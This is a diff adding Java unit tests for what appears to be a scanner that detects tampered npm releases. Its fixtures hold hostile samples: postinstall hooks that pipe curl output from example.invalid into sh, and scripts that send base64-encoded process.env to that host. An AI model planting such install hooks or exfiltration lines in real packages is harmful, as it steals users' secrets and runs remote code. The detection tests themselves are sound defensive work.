@@ -230,6 +230,58 @@ class NpmScanTest {
         }
     }
 
+    @Test
+    void anInstallScriptTheNextCommitRevertsWhileMovingTheVersionIsComparedWithThatCommit() throws Exception {
+        // red10 case5: as red9 case3, but the commit reverting the postinstall also starts 1.0.2-dev (the publisher
+        // writes the version field, so no later commit declares 1.0.1): the revert still names the baseline
+        SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", ""), "index.js", "a\n",
+                "cli.js", "b\n");
+        commit(base, "1.0.0");
+        git.tag("v1.0.0", false);
+        SortedMap<String, byte[]> prep = with(base, "package.json", pkgJson("widget", "1.0.1", ""));
+        commit(prep, "prep 1.0.1");
+        SortedMap<String, byte[]> payload = with(prep, "package.json", pkgJson("widget", "1.0.1",
+                ",\n  \"scripts\": {\"postinstall\": \"curl -s https://example.invalid/p | sh\"}"));
+        String p = commit(payload, "add install hook");
+        String reverted = commit(with(prep, "package.json", pkgJson("widget", "1.0.2-dev", "")),
+                "revert hook; start 1.0.2-dev");
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("1.0.1", payload).put("gitHead", p);
+            ReleaseReport r = scan(npm, "pkg:npm/widget", "1.0.1");
+            assertEquals(RefMethod.REGISTRY_COMMIT, r.ref().method());
+            assertEquals(reverted, r.ref().commit().orElseThrow());
+            assertFalse(r.ref().agreement().orElseThrow());
+            assertTrue(r.ref().note().orElseThrow().contains(p.substring(0, 12) + " holds code or a manifest that "
+                    + reverted.substring(0, 12)), r.ref().note().orElseThrow());
+            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
+            assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, pj.ruleId());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    @Test
+    void anInstallScriptChangedOtherwiseOrRemovedAfterTheVersionMovedKeepsTheRecordedCommit() throws Exception {
+        // the control of red10 case5: a release whose postinstall the next version's work changes (the bump commit
+        // changes it to another command, a later 1.0.2-dev commit removes it) was released as it is
+        SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", ""), "index.js", "a\n",
+                "cli.js", "b\n", "setup.js", "0;\n");
+        commit(base, "1.0.0");
+        git.tag("v1.0.0", false);
+        SortedMap<String, byte[]> released = with(base, "package.json", pkgJson("widget", "1.0.1",
+                ",\n  \"scripts\": {\"postinstall\": \"node setup.js\"}"));
+        String p = commit(released, "1.0.1: set up on install");
+        commit(with(released, "package.json", pkgJson("widget", "1.0.2-dev",
+                ",\n  \"scripts\": {\"postinstall\": \"node setup.js --quiet\"}")), "start 1.0.2-dev, quieter");
+        commit(with(base, "package.json", pkgJson("widget", "1.0.2-dev", "")), "drop the install step");
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("1.0.1", released).put("gitHead", p);
+            ReleaseReport r = scan(npm, "pkg:npm/widget", "1.0.1");
+            assertEquals(RefMethod.REGISTRY_COMMIT, r.ref().method());
+            assertEquals(p, r.ref().commit().orElseThrow());
+            assertEquals(Verdict.CLEAN, r.verdict());
+        }
+    }
+
     @org.junit.jupiter.params.ParameterizedTest
     @org.junit.jupiter.params.provider.ValueSource(booleans = {false, true})
     void anInstallScriptOnlyASideBranchDeclaresIsHighRiskAndOneTheDefaultBranchDeclaredIsNot(boolean reviewed)
@@ -419,7 +471,7 @@ class NpmScanTest {
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.0", scripts),
                 ".gitignore", "version.js\n", "index.js", "exports.version = require('./version.js');\n"
                         + "exports.data = require('./lib/data');\n", "cli.js", "require('./index');\n",
-                "lib/use.js", "var h = '../lib/helper';\nmodule.exports = require(h);\n");
+                "lib/use.js", "var h = '../lib/helper';\nmodule.exports = h;\n");
         ArtifactReport a = publishAndScan(tree, "4.9.0", with(tree,
                 "version.js", "module.exports = \"4.9.0\";\nrequire(\"https\").get(\"https://example.invalid/c?d=\" + "
                         + "Buffer.from(JSON.stringify(process.env)).toString(\"base64\"));\n",
@@ -433,6 +485,37 @@ class NpmScanTest {
         assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/lib/data.json").status());
         assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist/bundle.js").status());
         assertTrue(a.verdict() == Verdict.DIVERGENT || a.verdict() == Verdict.HIGH_RISK, a.verdict().toString());
+    }
+
+    @Test
+    void aWrittenModuleTheCodeCanReachByAComputedNameOrNamesByItsFileNameIsNotBuildOutput() throws Exception {
+        // red10 case3: index.js loads the prepare-written version.js by require(path.join(__dirname, "version"));
+        // any computed require could be loading any written module, and a file named in a path is one the code uses
+        String scripts = ",\n  \"scripts\": {\"prepare\": \"node -p \\\"'module.exports = ' + JSON.stringify("
+                + "require('./package.json').version)\\\" > version.js && node b > dist/bundle.js\"}";
+        String payload = "module.exports = \"4.9.3\";\nrequire(\"https\").get(\"https://example.invalid/c?d=\" + "
+                + "Buffer.from(JSON.stringify(process.env)).toString(\"base64\"));\n";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.3", scripts),
+                ".gitignore", "version.js\n", "index.js", "exports.version = require(require(\"path\").join(__dirname,"
+                        + " \"version\"));\n", "cli.js", "require('./index');\n");
+        ArtifactReport a = publishAndScan(tree, "4.9.3", with(tree, "version.js", payload,
+                "dist/bundle.js", "(function(){ var a = 2; })();\n"));
+        assertEquals(FileStatus.PHANTOM, row(a, "package/version.js").status());
+        assertEquals(FileStatus.PHANTOM, row(a, "package/dist/bundle.js").status(), "a computed require reaches any");
+        assertTrue(a.verdict() == Verdict.DIVERGENT || a.verdict() == Verdict.HIGH_RISK, a.verdict().toString());
+    }
+
+    @Test
+    void aWrittenModuleNamedOnlyByItsFileNameInAPathIsNotBuildOutputAndAnUnnamedOneIs() throws Exception {
+        String scripts = ",\n  \"scripts\": {\"prepare\": \"node v > version.js && node b > dist/bundle.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.4", scripts),
+                "index.js", "var vm = require('vm'), fs = require('fs');\n"
+                        + "vm.runInThisContext(fs.readFileSync(__dirname + '/version.js', 'utf8'));\n",
+                "cli.js", "require('./index');\n");
+        ArtifactReport a = publishAndScan(tree, "4.9.4", with(tree, "version.js", "var v = 1;\n",
+                "dist/bundle.js", "(function(){ var a = 2; })();\n"));
+        assertEquals(FileStatus.PHANTOM, row(a, "package/version.js").status());
+        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist/bundle.js").status());
     }
 
     @Test
@@ -519,6 +602,48 @@ class NpmScanTest {
         }
         // a file with the name but an extension Node never adds is not what runs
         assertFalse(row(a, "package/scripts/setup.sh").riskFlags().contains(RiskFlag.AUTO_EXEC));
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
+    void whatAnInstallScriptRunsByNameOrAfterACdRunsAtInstallAndIsNeverBuildOutput() throws Exception {
+        // red10 case4: "postinstall": "npm run setup"; case4b: "cd scripts && node setup.js"; case4c: the file the
+        // install runs is also written by prepare (and gitignored): it runs at install, so it stays compared
+        String scripts = ",\n  \"scripts\": {\"postinstall\": \"npm run setup --silent\","
+                + " \"setup\": \"node scripts/setup.js\", \"presetup\": \"yarn run fix\","
+                + " \"fix\": \"cd tools && node fix.js\", \"postsetup\": \"node gen/run.js\","
+                + " \"prepare\": \"node tools/gen.js > gen/run.js\", \"lint\": \"node tools/lint.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.2", scripts),
+                ".gitignore", "gen/run.js\n", "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
+                "scripts/setup.js", "module.exports = 0;\n", "tools/fix.js", "0;\n", "tools/gen.js", "0;\n",
+                "tools/lint.js", "0;\n");
+        String payload = "require('https').get('https://example.invalid/c?d=' + JSON.stringify(process.env));\n";
+        ArtifactReport a = publishAndScan(tree, "4.8.2", with(tree, "scripts/setup.js", payload,
+                "tools/fix.js", payload, "gen/run.js", payload, "tools/lint.js", "1;\n"));
+        for (String p : List.of("scripts/setup.js", "tools/fix.js", "gen/run.js")) {
+            FileDivergence f = row(a, "package/" + p);
+            assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p + " " + f.riskFlags());
+            assertTrue(f.status() == FileStatus.MODIFIED || f.status() == FileStatus.PHANTOM, f.toString());
+            assertTrue(f.highRisk(), p);
+        }
+        assertTrue(row(a, "package/scripts/setup.js").detail().isPresent());
+        // a script no install script reaches is not run at install
+        assertFalse(row(a, "package/tools/lint.js").riskFlags().contains(RiskFlag.AUTO_EXEC));
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
+    void aScriptAnInstallScriptRunsByNameChangedAtPublishIsAnInstallScript() throws Exception {
+        String src = ",\n  \"scripts\": {\"postinstall\": \"npm run setup\", \"setup\": \"node setup.js\","
+                + " \"lint\": \"eslint .\"}";
+        String pub = ",\n  \"scripts\": {\"postinstall\": \"npm run setup\","
+                + " \"setup\": \"curl -s https://example.invalid | sh\", \"lint\": \"eslint .\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.3", src),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n", "setup.js", "0;\n");
+        ArtifactReport a = publishAndScan(tree, "4.8.3", with(tree, "package.json", pkgJson("widget", "4.8.3", pub)));
+        FileDivergence pj = row(a, "package/package.json");
+        assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, pj.ruleId());
+        assertTrue(pj.detail().orElseThrow().contains("changes setup: curl"), pj.detail().orElseThrow());
         assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
 
